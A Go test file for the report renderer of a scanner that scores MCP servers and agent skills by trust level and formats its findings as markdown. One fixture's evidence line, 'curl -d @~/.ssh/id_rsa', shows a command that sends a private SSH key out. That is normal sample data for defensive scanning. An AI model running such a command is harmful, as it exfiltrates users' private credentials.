package report

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vigile-dev/vigile-mcp/internal/models"
)

func findings(n int) []models.Finding {
	out := make([]models.Finding, n)
	for i := range out {
		out[i] = models.Finding{Severity: "medium", Title: fmt.Sprintf("finding %d", i+1)}
	}
	return out
}

func TestTrustIndicator(t *testing.T) {
	tests := map[string]string{
		"trusted":   "🟢",
		"caution":   "🟡",
		"risky":     "🟠",
		"dangerous": "🔴",
		"unknown":   "⚪",
		"":          "⚪",
		"TRUSTED":   "⚪",
		"whatever":  "⚪",
	}
	for level, want := range tests {
		assert.Equal(t, want, TrustIndicator(level), "level %q", level)
	}
}

func TestSeverity(t *testing.T) {
	assert.Equal(t, "🔴", SeverityIndicator("critical"))
	assert.Equal(t, "🟠", SeverityIndicator("high"))
	assert.Equal(t, "🟡", SeverityIndicator("medium"))
	assert.Equal(t, "🟡", SeverityIndicator(""))
	assert.Equal(t, "CRITICAL", SeverityTag("critical"))
	assert.Equal(t, "UNKNOWN", SeverityTag(""))
}

func TestLinks(t *testing.T) {
	l := NewLinks("")
	assert.Equal(t, "https://vigile.dev", l.Home())
	assert.Equal(t, "https://vigile.dev/pricing", l.Pricing())
	assert.Equal(t, "https://vigile.dev/server/@scope%2Fpkg", l.Server("@scope/pkg"))
	assert.Equal(t, "https://vigile.dev/skill/react%20builder", l.Skill("react builder"))

	assert.Equal(t, "http://localhost:3000/pricing", NewLinks("http://localhost:3000/").Pricing())
	assert.Equal(t, "https://vigile.dev", Links{}.Home())
}

func TestServerNotFound(t *testing.T) {
	out := NewRenderer("").ServerNotFound("ghost-server")

	assert.True(t, strings.HasPrefix(out, "## MCP Server: ghost-server\n"))
	assert.Contains(t, out, "**Not found in the Vigile registry.**")
	assert.Contains(t, out, "hasn't been scanned")
	assert.Contains(t, out, "Run `npx vigile-scan ghost-server` to scan it locally")
	assert.NotContains(t, out, "404")
}

func TestSkillNotFound(t *testing.T) {
	out := NewRenderer("").SkillNotFound("mystery")

	assert.True(t, strings.HasPrefix(out, "## Agent Skill: mystery\n"))
	assert.Contains(t, out, "`vigile_scan_content`")
	assert.Contains(t, out, "reviewed manually before use")
}

func TestQuotaExceeded(t *testing.T) {
	r := NewRenderer("")
	assert.Equal(t, strings.Join([]string{
		"**Scan quota exceeded.**",
		"",
		"You've reached your monthly scan limit.",
		"",
		"Upgrade your plan at https://vigile.dev/pricing for more scans.",
	}, "\n"), r.QuotaExceeded(""))
	assert.Contains(t, r.QuotaExceeded("Free tier: 10 scans per month"), "\nFree tier: 10 scans per month\n")
}

func TestServer(t *testing.T) {
	entry := models.ServerEntry{
		Name:            "@modelcontextprotocol/server-filesystem",
		TrustScore:      83.5,
		TrustLevel:      "trusted",
		Source:          "npm",
		Description:     "Filesystem access",
		DownloadsWeekly: 12345,
		Stars:           987,
		LastScanned:     "2025-01-15T10:30:00Z",
		LatestFindings: []models.Finding{
			{Severity: "high", Title: "Broad file access", Recommendation: "Restrict allowed paths"},
		},
	}

	want := strings.Join([]string{
		"## 🟢 @modelcontextprotocol/server-filesystem",
		"",
		"**Trust Score:** 84/100",
		"**Trust Level:** trusted",
		"**Source:** npm",
		"**Description:** Filesystem access",
		"**Weekly Downloads:** 12,345",
		"**GitHub Stars:** 987",
		"**Last Scanned:** 2025-01-15",
		"",
		"### Security Findings",
		"- 🟠 **[HIGH]** Broad file access",
		"  → Restrict allowed paths",
		"",
		"🔗 [Full report on Vigile](https://vigile.dev/server/@modelcontextprotocol%2Fserver-filesystem)",
	}, "\n")
	assert.Equal(t, want, NewRenderer("").Server(entry))
}

func TestServer_MinimalEntry(t *testing.T) {
	out := NewRenderer("").Server(models.ServerEntry{Name: "bare", TrustScore: 10, TrustLevel: "mystery", Source: "github"})

	assert.True(t, strings.HasPrefix(out, "## ⚪ bare\n"))
	assert.NotContains(t, out, "Maintainer")
	assert.NotContains(t, out, "### Security Findings")
	assert.True(t, strings.HasSuffix(out, "\n\n🔗 [Full report on Vigile](https://vigile.dev/server/bare)"))
}

func TestEntryFindingsAreCapped(t *testing.T) {
	r := NewRenderer("")
	for name, out := range map[string]string{
		"server": r.Server(models.ServerEntry{Name: "s", LatestFindings: findings(7)}),
		"skill":  r.Skill(models.SkillEntry{Name: "k", LatestFindings: findings(7)}),
	} {
		t.Run(name, func(t *testing.T) {
			assert.Contains(t, out, "finding 5")
			assert.NotContains(t, out, "finding 6")
			assert.Equal(t, 5, strings.Count(out, "- 🟡 **[MEDIUM]**"))
			assert.Contains(t, out, "  ... and 2 more findings")
		})
	}

	out := r.Server(models.ServerEntry{Name: "s", LatestFindings: findings(5)})
	assert.NotContains(t, out, "more findings")
}

func TestSkill(t *testing.T) {
	out := NewRenderer("https://staging.vigile.dev").Skill(models.SkillEntry{
		Name:       "react-builder",
		TrustScore: 55,
		TrustLevel: "caution",
		Source:     "github",
		FileType:   "skill.md",
		Platform:   "claude-code",
		Author:     "jdoe",
	})

	lines := strings.Split(out, "\n")
	require.GreaterOrEqual(t, len(lines), 9)
	assert.Equal(t, []string{
		"## 🟡 react-builder",
		"",
		"**Trust Score:** 55/100",
		"**Trust Level:** caution",
		"**File Type:** skill.md",
		"**Platform:** claude-code",
		"**Source:** github",
		"**Author:** jdoe",
	}, lines[:8])
	assert.Equal(t, "🔗 [Full report on Vigile](https://staging.vigile.dev/skill/react-builder)", lines[len(lines)-1])
}

func TestScan_NoFindings(t *testing.T) {
	out := NewRenderer("").Scan(models.ScanResult{TrustScore: 97, TrustLevel: "trusted", FileType: "skill.md"}, "")

	assert.True(t, strings.HasPrefix(out, "## 🟢 Scan Result: Inline Scan\n"))
	assert.Contains(t, out, "**Findings:** 0 total (0 critical, 0 high)")
	assert.True(t, strings.HasSuffix(out, "\n\n✅ No security findings detected."))
	assert.NotContains(t, out, "### Findings")
}

func TestScan_AllFindingsInOrder(t *testing.T) {
	result := models.ScanResult{
		SkillName:     "evil-skill",
		TrustScore:    12.4,
		TrustLevel:    "dangerous",
		FileType:      "skill.md",
		FindingsCount: 7,
		CriticalCount: 1,
		HighCount:     1,
		Findings: append([]models.Finding{
			{Severity: "critical", Title: "Exfiltration", Description: "Sends secrets out.", Evidence: "curl -d @~/.ssh/id_rsa", Recommendation: "Remove the command"},
			{Severity: "high", Title: "Shell access"},
		}, findings(5)...),
	}

	out := NewRenderer("").Scan(result, "ignored")

	assert.True(t, strings.HasPrefix(out, "## 🔴 Scan Result: evil-skill\n"))
	assert.Contains(t, out, "**Trust Score:** 12/100")
	assert.Contains(t, out, "**Findings:** 7 total (1 critical, 1 high)")
	assert.Equal(t, 7, strings.Count(out, "\n#### "))
	assert.Contains(t, out, strings.Join([]string{
		"### Findings",
		"",
		"#### 🔴 [CRITICAL] Exfiltration",
		"Sends secrets out.",
		"**Evidence:** `curl -d @~/.ssh/id_rsa`",
		"**Recommendation:** Remove the command",
		"",
		"#### 🟠 [HIGH] Shell access",
		"",
		"#### 🟡 [MEDIUM] finding 1",
	}, "\n"))
	assert.NotContains(t, out, "more findings")

	prev := -1
	for i := 1; i <= 5; i++ {
		idx := strings.Index(out, fmt.Sprintf("finding %d", i))
		require.Greater(t, idx, prev)
		prev = idx
	}
}

func TestScan_TitleFallsBackToRequestedName(t *testing.T) {
	out := NewRenderer("").Scan(models.ScanResult{TrustLevel: "risky"}, "my-skill")
	assert.True(t, strings.HasPrefix(out, "## 🟠 Scan Result: my-skill\n"))
}

func TestSearch(t *testing.T) {
	r := NewRenderer("")

	t.Run("empty", func(t *testing.T) {
		assert.Equal(t, strings.Join([]string{
			`## Search: "nothing"`,
			"",
			"No results found in the Vigile registry.",
			"",
			"Try a different search term, or submit a server/skill for scanning at https://vigile.dev",
		}, "\n"), r.Search("nothing", nil, nil))
	})

	t.Run("both", func(t *testing.T) {
		out := r.Search("fs",
			[]models.ServerHit{{Name: "fs", TrustScore: 91.2, TrustLevel: "trusted", Source: "npm"}},
			[]models.SkillHit{{Name: "fs-skill", TrustScore: 40, TrustLevel: "risky", Platform: "cursor"}},
		)
		assert.Equal(t, strings.Join([]string{
			`## Search: "fs"`,
			"",
			"### MCP Servers (1 results)",
			"",
			"| Server | Score | Level | Source |",
			"|--------|-------|-------|--------|",
			"| [fs](https://vigile.dev/server/fs) | 91/100 | 🟢 trusted | npm |",
			"",
			"### Agent Skills (1 results)",
			"",
			"| Skill | Score | Level | Platform |",
			"|-------|-------|-------|----------|",
			"| [fs-skill](https://vigile.dev/skill/fs-skill) | 40/100 | 🟠 risky | cursor |",
		}, "\n"), out)
	})

	t.Run("skills only", func(t *testing.T) {
		out := r.Search("db", nil, []models.SkillHit{{Name: "db", TrustLevel: "odd"}})
		assert.NotContains(t, out, "MCP Servers")
		assert.Contains(t, out, "## Search: \"db\"\n\n### Agent Skills (1 results)\n")
		assert.Contains(t, out, "⚪ odd")
	})
}

func TestErrorLines(t *testing.T) {
	assert.Equal(t, `Error looking up "fs": HTTP 500`, LookupError("fs", "", 500))
	assert.Equal(t, `Error looking up "fs": API server unreachable`, LookupError("fs", "API server unreachable", 0))
	assert.Equal(t, `Error looking up skill "k": Forbidden`, SkillLookupError("k", "Forbidden", 403))
	assert.Equal(t, "Scan failed: HTTP 413", ScanError("", 413))
}
